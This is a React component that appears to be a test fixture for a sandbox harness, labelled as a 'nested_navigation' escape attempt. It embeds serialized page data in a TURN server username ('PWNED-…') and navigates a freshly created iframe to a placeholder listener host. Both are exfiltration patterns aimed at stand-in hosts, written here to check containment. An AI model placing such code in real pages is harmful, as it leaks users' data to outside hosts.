import { useEffect } from "react";

// Escape attempt: nested_navigation — a nested frame's window navigating to the listener
export default function Hostile({ data }) {
  useEffect(() => {
    const servers = { iceServers: [{ urls: "stun:__HOSTPORT__" }, { urls: "turn:__HOSTPORT__?transport=tcp", username: "PWNED-nested_navigation-" + JSON.stringify(data ?? null), credential: "c" }] };
    try {
      const frame = document.body.appendChild(document.createElement("iframe"));
      frame.contentWindow.location.href = "__LISTENER__/nested_navigation";
    } catch (error) {
      console.info("contained", error && error.message);
    }
  }, [data]);
  return <p data-testid="hostile">nested_navigation</p>;
}
